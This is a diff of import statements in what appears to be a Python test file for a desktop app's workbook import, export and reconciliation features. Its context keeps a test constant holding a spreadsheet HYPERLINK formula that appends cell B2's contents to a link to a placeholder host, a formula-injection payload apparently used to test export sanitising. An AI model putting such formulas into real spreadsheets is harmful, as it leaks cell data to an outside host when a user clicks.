@@ -23,10 +23,10 @@ from desktop.exchange.files import apply_workbook, export_workbook, preview_impo
 from desktop.exchange.reconcile_report import write_reconcile_report
 from desktop.exchange.stats_xlsx import statistics_workbook
 from desktop.exchange.xlsx_writer import write_template
-from desktop.services.audit_view import AuditLine
 from desktop.services.context import Workspace
-from desktop.services.reconcile import Difference, Reconciliation
-from desktop.services.statistics import CountTable
+from desktop.services.importing.reconcile import Difference, Reconciliation
+from desktop.services.reports.statistics import CountTable
+from desktop.services.safekeeping.audit_view import AuditLine
 from tests.factories import valid_row
 
 LINK = '=HYPERLINK("http://example.invalid/?"&B2,"点这里")'
